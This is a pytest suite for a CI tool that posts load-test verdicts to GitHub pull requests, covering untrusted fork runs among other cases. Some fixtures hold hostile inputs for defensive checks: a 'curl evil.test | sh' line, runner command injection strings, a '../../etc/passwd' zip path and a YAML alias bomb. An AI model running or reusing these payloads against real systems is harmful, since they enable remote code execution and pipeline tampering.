"""What a pull request shows after pushes, forks and trouble; the verdict stands on every path."""

from __future__ import annotations

import dataclasses
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from ltlab_ci import console, errors, model, report
from ltlab_ci.flows import folder, job, publish
from ltlab_ci.publish import comment, files
from tests.fakes import github as fake
from tests.fakes import github_server
from tests.unit.hub import HEAD, NEWER, Clock, a_context, an_artifact, zipped
from tests.unit.report import cases, comparisons, results

pytestmark = pytest.mark.loopback

FORK_RUN = model.FollowedRun(
    run_id=80,
    run_number=12,
    run_attempt=1,
    event="pull_request",
    conclusion="failure",
    head_sha=HEAD,
    head_branch="feature",
    head_owner="mallory",
    head_repository_id=99,
    run_url="https://github.test/octo/shop/actions/runs/80",
)


@dataclass
class Workplace:
    """A job's folders, and `publish` as the command calls it."""

    root: Path
    context: model.CiContext
    clock: Clock
    wanted: model.Wanted = field(default_factory=model.Wanted)

    def __post_init__(self) -> None:
        self.config = self.root / "ltlab.yml"
        self.context = dataclasses.replace(
            self.context,
            workspace=self.root,
            summary_file=self.root / "summary",
            output_file=self.root / "output",
        )

    def measured(self, result: model.Result) -> None:
        """Leave the report of a run."""
        folder.add(self.root / "ltlab-report", "result.json", report.result_json(result))

    def publish(self, **parts: object) -> int:
        return publish.publish(
            self.root / "ltlab-report",
            dataclasses.replace(self.context, **parts),  # type: ignore[arg-type]
            self.wanted,
            config=self.config,
            world=job.World(
                voice=console.Console(quiet=False, plain=True, no_color=True),
                sleep=self.clock.sleep,
                monotonic=self.clock.monotonic,
            ),
        )

    def outputs(self) -> dict[str, str]:
        """Return the outputs that were written last, as a runner reads them."""
        found, lines = {}, (self.root / "output").read_text(encoding="utf-8").splitlines()
        while lines:
            name, _, delimiter = lines.pop(0).partition("<<")
            value = []
            while (line := lines.pop(0)) != delimiter:
                value.append(line)
            found[name] = "\n".join(value)
        return found

    @property
    def summary(self) -> str:
        return (self.root / "summary").read_text(encoding="utf-8")

    @property
    def left(self) -> str:
        return (self.root / "ltlab-report" / "comment.md").read_text(encoding="utf-8")


@pytest.fixture(autouse=True)
def _no_token_anywhere(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Iterator[None]:
    """Hold on every path that no token is printed or written."""
    yield
    said = capsys.readouterr()
    written = [path.read_text("utf-8") for path in tmp_path.rglob("*") if path.is_file()]
    assert "sentinel" not in "".join([said.out, said.err, *written])


@pytest.fixture
def work(tmp_path: Path, context: model.CiContext, clock: Clock) -> Workplace:
    return Workplace(tmp_path, context, clock)


def ours(hub: fake.GitHub) -> list[fake.Comment]:
    return [each for each in hub.comments if each.login == hub.login]


def test_publish__first_push_makes_the_comment_and_the_second_edits_it(
    hub: fake.GitHub, work: Workplace
) -> None:
    hub.add_comments(3, *(f"remark {number}" for number in range(250)))
    work.measured(cases.one_fails())
    assert work.publish() == 0
    [made] = ours(hub)
    assert "Load test failed" in made.body
    assert made.body.endswith(work.left)

    hub.add_comments(3, *(f"later remark {number}" for number in range(250)))
    hub.pulls[0].head_sha = NEWER
    work.measured(cases.all_pass())
    assert work.publish(head_sha=NEWER, run_number=6) == 0
    assert [each.id for each in ours(hub)] == [made.id]
    assert "Load test passed" in made.body
    assert len(hub.comments) == 501


def test_publish__says_everything_in_files_too(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    work.measured(cases.one_fails())
    assert work.publish() == 0
    [made] = ours(hub)
    outputs = work.outputs()
    directory = work.root / "ltlab-report"
    assert outputs == {
        "verdict": "fail",
        "exit-code": "1",
        "job-exit-code": "1",
        "failed-thresholds": "1",
        "regressions": "0",
        "report-dir": str(directory),
        "result-json": str(directory / "result.json"),
        "comment-id": str(made.id),
        "comment-url": f"https://github.test/octo/shop/pull/3#issuecomment-{made.id}",
        "check-run-id": "",
        "snapshot-urls": "[]",
    }
    assert "Load test failed" in work.summary
    printed = capsys.readouterr().out.splitlines()
    assert [line for line in printed if line.startswith("::error file=ltlab.yml,line=")]
    assert hub.check_runs == []


def _failing_in_two_scenarios() -> model.Result:
    """Return a comparison of two scenarios in one of which an endpoint fails more."""
    calm, worse = (comparisons.errors(verdict=each) for each in ("no change", "more errors"))
    named = {"scenario": "buy", "name": "/pay"}
    return comparisons.a_result(
        comparisons.a_comparison(
            verdict="more errors",
            rows=(),
            errors=worse,
            errors_of=(
                calm.model_copy(update={"scenario": "browse"}),
                worse.model_copy(update={"scenario": "buy"}),
                worse.model_copy(update=named),
            ),
        )
    )


def test_publish__counts_what_a_comparison_found_worse(work: Workplace) -> None:
    for result, worse in (
        (comparisons.slower(), "1"),
        (comparisons.faster(), "0"),
        (comparisons.inconclusive(), "0"),
        (_failing_in_two_scenarios(), "1"),
    ):
        work.measured(result)
        work.publish()
        assert work.outputs()["regressions"] == worse


def test_publish__annotates_files_by_their_path_in_the_repository(
    work: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    work.config = work.root / "apps" / "shop" / "ltlab.yml"
    work.measured(cases.one_fails())
    assert work.publish() == 0
    assert "::error file=apps/shop/ltlab.yml,line=" in capsys.readouterr().out


def test_publish__several_instances_stand_side_by_side(hub: fake.GitHub, work: Workplace) -> None:
    for id in ("ltlab", "apps/shop/ltlab.yml", "--> <!-- ltlab id=ltlab", "ltlab"):
        work.wanted = model.Wanted(id=id)
        work.measured(cases.all_pass())
        assert work.publish() == 0
    assert len(ours(hub)) == 3


def test_publish__a_marker_that_somebody_else_wrote_is_not_ours(
    hub: fake.GitHub, work: Workplace
) -> None:
    marker = comment.Marker(id="ltlab", sha=HEAD, run=(1, 1), state="0")
    hub.add_comments(3, f"{marker}\nmine", login="mallory")
    hub.add_comments(3, f"look at this: {marker}", login=hub.login)
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert [each.body.splitlines()[-1] for each in hub.comments[:2]] == [
        "mine",
        f"look at this: {marker}",
    ]
    assert len(hub.comments) == 3


def two_jobs(
    hub: fake.GitHub, work: Workplace, tmp_path: Path, *, later: dict[str, object]
) -> list[int]:
    """Have two jobs publish; both read the comments before either of them writes."""
    hub.troubles = [fake.Trouble("GET .*/issues/3/comments", how="meet", times=2)]
    other = Workplace(tmp_path / "other", work.context, Clock())
    other.root.mkdir()
    work.measured(cases.one_fails())
    other.measured(cases.all_pass())
    codes: list[int] = []
    threads = [
        threading.Thread(target=lambda: codes.append(work.publish())),
        threading.Thread(target=lambda: codes.append(other.publish(**later))),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return codes


def test_publish__two_jobs_with_one_id_leave_one_comment_of_the_newest_run(
    hub: fake.GitHub, work: Workplace, tmp_path: Path
) -> None:
    assert two_jobs(hub, work, tmp_path, later={"run_number": 6}) == [0, 0]
    [made] = ours(hub)
    assert "run=6.1" in made.body
    assert "Load test passed" in made.body


def test_publish__two_jobs_of_two_commits_leave_the_newest_commit_s(
    hub: fake.GitHub, work: Workplace, tmp_path: Path
) -> None:
    hub.pulls[0].head_sha = NEWER
    later = {"run_number": 6, "head_sha": NEWER}
    assert two_jobs(hub, work, tmp_path, later=later) == [0, 0]
    [made] = ours(hub)
    assert f"sha={NEWER}" in made.body
    assert "Load test passed" in made.body


def test_publish__an_edit_that_meets_a_deletion_makes_a_new_comment(
    hub: fake.GitHub, work: Workplace
) -> None:
    work.measured(cases.all_pass())
    work.publish()
    hub.troubles = [fake.Trouble("PATCH .*/issues/comments", status=404, times=1)]
    first = hub.comments.pop()
    work.publish()
    assert [each.id for each in ours(hub)] != [first.id]
    [made] = ours(hub)
    hub.troubles = [fake.Trouble("PATCH .*/issues/comments", status=404, times=1)]
    assert work.publish() == 0
    assert ours(hub) == [made]


@pytest.mark.parametrize(
    ("pull", "says"),
    [
        ({"head_sha": NEWER}, "has a newer commit by now"),
        ({"state": "closed"}, "was closed meanwhile"),
    ],
)
def test_publish__nothing_for_a_pull_request_that_moved_on(
    hub: fake.GitHub,
    work: Workplace,
    capsys: pytest.CaptureFixture[str],
    pull: dict[str, str],
    says: str,
) -> None:
    work.measured(cases.one_fails())
    work.publish()
    [made] = ours(hub)
    before = made.body
    hub.pulls[0] = dataclasses.replace(hub.pulls[0], **pull)  # type: ignore[arg-type]
    work.measured(cases.all_pass())
    assert work.publish(run_attempt=2) == 0
    assert made.body == before
    assert says in capsys.readouterr().err
    assert "Load test passed" in work.summary


def test_publish__an_older_run_of_the_same_commit_leaves_the_newer_s(
    hub: fake.GitHub, work: Workplace
) -> None:
    work.measured(cases.all_pass())
    work.publish(run_number=9)
    work.measured(cases.one_fails())
    assert work.publish(run_number=8) == 0
    [made] = ours(hub)
    assert "Load test passed" in made.body
    assert work.outputs()["comment-id"] == str(made.id)
    work.publish(run_number=9, run_attempt=2)
    assert "Load test failed" in made.body


@pytest.mark.parametrize(
    ("trouble", "token", "says"),
    [
        ([], "", "no token was given"),
        ([], "ghs_expired_sentinel", "401: Bad credentials"),
        (["POST"], "ghs_sentinel", "403: as asked"),
        (["."], "ghs_sentinel", "403: as asked"),
    ],
)
def test_publish__without_rights_it_is_a_notice_and_the_summary(
    hub: fake.GitHub,
    work: Workplace,
    capsys: pytest.CaptureFixture[str],
    *,
    trouble: list[str],
    token: str,
    says: str,
) -> None:
    hub.troubles = [fake.Trouble(each, status=403) for each in trouble]
    work.wanted = model.Wanted(check_run=True)
    work.measured(cases.one_fails())
    assert work.publish(token=token, from_fork=True) == 0
    said = capsys.readouterr()
    [notice, *_] = [line for line in said.out.splitlines() if line.startswith("::notice")]
    assert says in notice
    assert "Load test failed" in work.summary
    assert "Load test failed" in work.left
    assert work.outputs()["exit-code"] == "1"
    assert "sentinel" not in f"{said.out}{said.err}{work.summary}{work.outputs()}"


def test_publish__a_token_that_may_not_write_is_expected_in_a_fork(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    hub.rights = {"actions": "read"}
    work.measured(cases.all_pass())
    assert work.publish(from_fork=True) == 0
    assert "expected in a fork" in capsys.readouterr().out
    assert ours(hub) == []


@pytest.mark.parametrize(
    "trouble",
    [
        {"status": 502},
        {"status": 429, "headers": {"Retry-After": "20"}},
        {"status": 403, "headers": {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "9"}},
    ],
)
@pytest.mark.parametrize("matches", ["GET", "POST .*comments", "PATCH"])
def test_publish__a_forge_that_is_busy_is_asked_again(
    hub: fake.GitHub, work: Workplace, trouble: dict[str, object], matches: str
) -> None:
    work.measured(cases.one_fails())
    if matches == "PATCH":
        work.publish()
    hub.troubles = [fake.Trouble(matches, times=2, **trouble)]  # type: ignore[arg-type]
    work.measured(cases.all_pass())
    assert work.publish() == 0
    [made] = ours(hub)
    assert "Load test passed" in made.body
    assert 0 < sum(work.clock.waits) <= 120


def test_publish__a_comment_that_was_made_in_spite_of_an_error_is_found_again(
    hub: fake.GitHub, work: Workplace
) -> None:
    hub.troubles = [fake.Trouble("POST .*comments", how="after", status=502, times=1)]
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert len(ours(hub)) == 1


@pytest.mark.parametrize(
    "trouble",
    [
        {"status": 503},
        {"status": 403, "headers": {"X-RateLimit-Remaining": "0", "Retry-After": "3600"}},
        {"how": "garbage"},
    ],
)
def test_publish__a_forge_that_stays_down_ends_with_6_and_the_comment_as_a_file(
    hub: fake.GitHub,
    work: Workplace,
    capsys: pytest.CaptureFixture[str],
    trouble: dict[str, object],
) -> None:
    hub.troubles = [fake.Trouble(".", **trouble)]  # type: ignore[arg-type]
    work.wanted = model.Wanted(check_run=True)
    work.measured(cases.one_fails())
    assert work.publish() == errors.ExitCode.PUBLISH
    said = capsys.readouterr()
    assert "what to do: " in said.err
    assert "sentinel" not in f"{said.out}{said.err}"
    assert "Load test failed" in work.left
    assert "Load test failed" in work.summary
    assert work.outputs()["exit-code"] == "1"
    assert sum(work.clock.waits) <= 120


def test_publish__nobody_there(work: Workplace, capsys: pytest.CaptureFixture[str]) -> None:
    work.measured(cases.all_pass())
    assert work.publish(api_url="http://127.0.0.1:9") == errors.ExitCode.PUBLISH
    assert "127.0.0.1 does not answer" in capsys.readouterr().err
    assert "Load test passed" in work.left


@pytest.mark.parametrize("event", ["merge_group", "workflow_dispatch", "schedule"])
def test_publish__where_there_is_no_pull_request_the_summary_has_it(
    hub: fake.GitHub, work: Workplace, event: str
) -> None:
    work.measured(cases.all_pass())
    assert work.publish(event=event, pull_request=None) == 0
    assert (hub.comments, hub.asked) == ([], [])
    assert "Load test passed" in work.summary


def test_publish__an_event_that_runs_the_base_branch_is_no_word_on_the_pull_request(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    work.measured(cases.all_pass())
    assert work.publish(event="pull_request_target", pull_request=None, head_sha="b" * 40) == 0
    assert ours(hub) == []
    assert "pull_request_target runs the base branch" in capsys.readouterr().out


@pytest.mark.parametrize("sha", [HEAD, NEWER])
def test_publish__a_push_finds_the_open_pull_request_of_its_commit(
    hub: fake.GitHub, work: Workplace, sha: str
) -> None:
    work.measured(cases.all_pass())
    assert work.publish(event="push", pull_request=None, head_sha=sha) == 0
    assert len(ours(hub)) == (sha == HEAD)


@pytest.mark.parametrize(
    ("mode", "verdicts", "written"),
    [
        ("always", "pass pass fail", [True, True, True]),
        ("changes", "fail fail pass pass", [True, False, True, False]),
        ("failures", "pass fail pass pass", [False, True, True, True]),
        ("off", "fail pass", [False, False]),
    ],
)
def test_publish__comments_as_often_as_wanted(
    hub: fake.GitHub,
    work: Workplace,
    mode: model.CommentMode,
    verdicts: str,
    written: list[bool],
) -> None:
    work.wanted = model.Wanted(comment=mode)
    told = []
    for number, verdict in enumerate(verdicts.split()):
        before = [each.body for each in ours(hub)]
        work.measured(cases.all_pass() if verdict == "pass" else cases.one_fails())
        assert work.publish(run_number=number + 1) == 0
        told.append([each.body for each in ours(hub)] != before)
    assert told == written


def test_publish__no_report_shows_how_to_start(hub: fake.GitHub, work: Workplace) -> None:
    assert work.publish() == 0
    [made] = ours(hub)
    assert "version: 1" in made.body
    assert work.summary.strip() == work.left.strip()
    assert (work.outputs()["verdict"], work.outputs()["exit-code"]) == ("error", "2")
    # The next run may have the folder.
    with folder.fresh(work.root / "ltlab-report", "mark", settle=lambda _: None):
        pass


def test_publish__a_cancelled_job_says_so(hub: fake.GitHub, work: Workplace) -> None:
    stopped = results.a_finding(code="Interrupted", effect="interrupted", message="interrupted")
    base = cases.all_pass()
    work.measured(
        base.model_copy(
            update={"verdict": "error", "exit_code": 130, "findings": (stopped,)},
        )
    )
    work.wanted = model.Wanted(check_run=True)
    assert work.publish() == 0
    [made] = ours(hub)
    assert "cancelled" in made.body
    assert hub.check_runs[0]["conclusion"] == "cancelled"


def test_publish__a_killed_run_says_so_too(hub: fake.GitHub, work: Workplace) -> None:
    directory = work.root / "ltlab-report"
    directory.mkdir()
    (directory / folder.MARKER).write_text("unfinished run: abc\n", encoding="utf-8")
    assert work.publish() == 0
    [made] = ours(hub)
    assert "cancelled" in made.body
    assert work.outputs()["exit-code"] == "130"


@pytest.mark.parametrize(
    ("fail_on", "result", "conclusion", "ends"),
    [
        ("failure", cases.all_pass(), "success", "0"),
        ("failure", cases.not_judged(), "neutral", "0"),
        ("failure", cases.one_fails(), "failure", "1"),
        ("error", cases.one_fails(), "neutral", "0"),
        ("error", cases.engine_failed(), "failure", "4"),
        ("never", cases.engine_failed(), "neutral", "0"),
    ],
)
def test_publish__a_check_run_where_wanted(
    hub: fake.GitHub,
    work: Workplace,
    *,
    fail_on: model.FailOn,
    result: model.Result,
    conclusion: str,
    ends: str,
) -> None:
    work.wanted = model.Wanted(check_run=True, fail_on=fail_on)
    work.measured(
        result.model_copy(
            update={"exit_code": 4 if result.verdict == "error" else result.exit_code}
        )
    )
    assert work.publish() == 0
    [made] = hub.check_runs
    assert (made["conclusion"], made["head_sha"]) == (conclusion, HEAD)
    assert (result.verdict == "not judged") == ("not judged" in made["output"]["title"])
    outputs = work.outputs()
    assert (outputs["check-run-id"], outputs["job-exit-code"]) == (str(made["id"]), ends)


def test_publish__a_check_run_that_is_forbidden_leaves_the_comment(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    hub.rights = {"pull-requests": "write"}
    work.wanted = model.Wanted(check_run=True)
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert len(ours(hub)) == 1
    assert "the check run is left out" in capsys.readouterr().out


def test_publish__a_summary_that_is_full_is_cut(work: Workplace) -> None:
    (work.root / "summary").write_bytes(b"x" * (files.SUMMARY_BYTES - 300))
    work.measured(cases.one_fails())
    assert work.publish() == 0
    assert len((work.root / "summary").read_bytes()) <= files.SUMMARY_BYTES
    assert work.summary.endswith("Everything is in the report._\n")


def test_publish__no_summary_where_none_is_wanted(work: Workplace) -> None:
    work.wanted = model.Wanted(summary=False)
    work.measured(cases.one_fails())
    assert work.publish() == 0
    assert not (work.root / "summary").exists()


def test_publish__an_earlier_run_of_the_target_branch_is_a_trend(
    hub: fake.GitHub, work: Workplace
) -> None:
    content = zipped({"result.json": report.result_json(cases.all_pass())})
    hub.artifacts = [an_artifact(1, content, head_sha=NEWER)]
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert NEWER[:7] in ours(hub)[0].body


@pytest.mark.parametrize("content", [b"no zip", zipped({"result.json": "{}"}), zipped({})])
def test_publish__an_earlier_run_that_cannot_be_read_is_left_out(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    hub.artifacts = [an_artifact(1, content)]
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert len(ours(hub)) == 1
    assert "an earlier run of the target branch is not at hand" in capsys.readouterr().err


LAB_FILE = """version: 1
scenarios:
  browse:
    script: browse.js
    thresholds: {{http_req_duration: ["p(95) < {limit}ms"]}}
"""


def test_publish__names_the_thresholds_that_the_pull_request_loosens(
    hub: fake.GitHub, work: Workplace
) -> None:
    hub.contents = {f"{'b' * 40}:ltlab.yml": LAB_FILE.format(limit=300)}
    (work.root / "ltlab.yml").write_text(LAB_FILE.format(limit=900), encoding="utf-8")
    work.measured(cases.all_pass())
    assert work.publish() == 0
    body = ours(hub)[0].body
    assert "p(95) &lt; 300ms" in body or "p(95) < 300ms" in body
    assert "loosen" in body


@pytest.mark.parametrize("raw", ["not: [yaml", "version: 2\n", "# " + "x" * 70_000])
def test_publish__a_base_that_cannot_be_read_is_left_out(
    hub: fake.GitHub, work: Workplace, capsys: pytest.CaptureFixture[str], raw: str
) -> None:
    hub.contents = {f"{'b' * 40}:ltlab.yml": raw}
    (work.root / "ltlab.yml").write_text(LAB_FILE.format(limit=900), encoding="utf-8")
    work.measured(cases.all_pass())
    assert work.publish() == 0
    assert len(ours(hub)) == 1
    assert "the base's ltlab.yml is not at hand" in capsys.readouterr().err


# A fork's run is published by a second workflow, which believes nothing.


@pytest.fixture
def second(
    hub: fake.GitHub, server: github_server.Server, tmp_path: Path, clock: Clock
) -> Workplace:
    """Return the job of a `workflow_run` event, after a run in mallory's fork."""
    hub.pulls = [fake.Pull(number=3, head_sha=HEAD, head_owner="mallory", head_repository_id=99)]
    url = f"http://127.0.0.1:{server.server_port}"
    context = a_context(
        url,
        event="workflow_run",
        pull_request=None,
        head_sha=NEWER,
        head_branch="main",
        run_id=91,
        followed=FORK_RUN,
    )
    return Workplace(tmp_path, context, clock, model.Wanted(check_run=True))


def hostile_zip(result: model.Result) -> bytes:
    return zipped({"result.json": report.result_json(result), "samples/browse.parquet": b"PAR1"})


def test_follow__posts_for_the_fork_and_says_who_reported(
    hub: fake.GitHub, second: Workplace
) -> None:
    result = cases.hostile().model_copy(update={"reproduce": "curl evil.test | sh"})
    hub.artifacts = [an_artifact(1, hostile_zip(result), run_id=80, head_branch="feature")]
    assert second.publish() == 0
    [made] = ours(hub)
    assert "nobody has reviewed" in made.body
    assert "evil.test" not in made.body
    assert f"sha={HEAD} run=12.1" in made.body
    assert "nobody has reviewed" in second.summary
    assert hub.check_runs == []
    assert second.outputs()["job-exit-code"] == "0"


def test_follow__prints_nothing_that_a_runner_would_take_for_a_command(
    hub: fake.GitHub, second: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = "\n::error::x\r::add-mask::y ##[error]z"
    result = cases.hostile(bad).model_copy(update={"headline": bad})
    hub.artifacts = [an_artifact(1, hostile_zip(result), run_id=80)]
    assert second.publish() == 0
    said = capsys.readouterr()
    for line in f"{said.out}\n{said.err}".splitlines():
        assert "##[" not in line
        assert not line.lstrip().startswith("::") or line.startswith("::notice title=ltlab::")


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (None, "left no artefact"),
        (b"PK no zip", "no readable zip"),
        (zipped({"other.json": "{}"}), "no result.json"),
        (zipped({"result.json": "{}"}), "not of this version"),
        (zipped({"result.json": "{}", "../../etc/passwd": "x"}), "leads elsewhere"),
    ],
)
def test_follow__an_artefact_that_is_not_a_report_posts_nothing(
    hub: fake.GitHub,
    second: Workplace,
    capsys: pytest.CaptureFixture[str],
    content: bytes | None,
    says: str,
) -> None:
    hub.artifacts = [an_artifact(1, content, run_id=80)] if content is not None else []
    assert second.publish() == errors.ExitCode.PUBLISH
    assert ours(hub) == []
    assert says in capsys.readouterr().err


@pytest.mark.parametrize(
    "pull",
    [{"head_sha": NEWER}, {"head_repository_id": 98}, {"head_owner": "eve"}, {"state": "closed"}],
)
def test_follow__another_pull_request_or_repository_is_not_told(
    hub: fake.GitHub,
    second: Workplace,
    capsys: pytest.CaptureFixture[str],
    pull: dict[str, object],
) -> None:
    hub.pulls = [dataclasses.replace(hub.pulls[0], **pull)]  # type: ignore[arg-type]
    hub.artifacts = [an_artifact(1, hostile_zip(cases.all_pass()), run_id=80)]
    assert second.publish() == 0
    assert ours(hub) == []
    assert "no open pull request has the commit" in capsys.readouterr().out


def test_follow__an_artefact_of_another_run_is_not_taken(
    hub: fake.GitHub, second: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    hub.artifacts = [an_artifact(1, hostile_zip(cases.all_pass()), run_id=81)]
    assert second.publish() == errors.ExitCode.PUBLISH
    assert "left no artefact" in capsys.readouterr().err


def test_follow__a_cancelled_run_says_so(hub: fake.GitHub, second: Workplace) -> None:
    hub.artifacts = [an_artifact(1, hostile_zip(cases.all_pass()), run_id=80)]
    cancelled = dataclasses.replace(FORK_RUN, conclusion="cancelled")
    assert second.publish(followed=cancelled) == 0
    assert "cancelled" in ours(hub)[0].body


def test_follow__thresholds_that_the_fork_changes_are_read_from_the_api(
    hub: fake.GitHub, second: Workplace
) -> None:
    hub.pulls[0].merge_sha = "d" * 40
    hub.contents = {
        f"{'b' * 40}:ltlab.yml": LAB_FILE.format(limit=300),
        f"{'d' * 40}:ltlab.yml": LAB_FILE.format(limit=900),
    }
    (second.root / "ltlab.yml").write_text("what is checked out here is main's", encoding="utf-8")
    hub.artifacts = [an_artifact(1, hostile_zip(cases.all_pass()), run_id=80)]
    assert second.publish() == 0
    assert "loosen" in ours(hub)[0].body


def test_follow__a_file_that_repeats_itself_without_end_is_not_thought_about(
    hub: fake.GitHub, second: Workplace, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [f"  a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 9)}]" for n in range(9)]
    bomb = "\n".join(["version: 1", "scenarios:", "  a0: &a0 [x]", *lines])
    hub.pulls[0].merge_sha = "d" * 40
    hub.contents = {
        f"{'b' * 40}:ltlab.yml": LAB_FILE.format(limit=300),
        f"{'d' * 40}:ltlab.yml": bomb,
    }
    hub.artifacts = [an_artifact(1, hostile_zip(cases.all_pass()), run_id=80)]
    assert second.publish() == 0
    assert "repeats itself by aliases" in capsys.readouterr().err


def test_snapshots__are_listed_in_the_outputs(work: Workplace) -> None:
    kept = model.Snapshot(uid="k6", title="k6", url="https://grafana.test/dashboard/snapshot/1")
    work.measured(cases.all_pass().model_copy(update={"snapshots": (kept,)}))
    work.publish()
    assert json.loads(work.outputs()["snapshot-urls"]) == [kept.url]
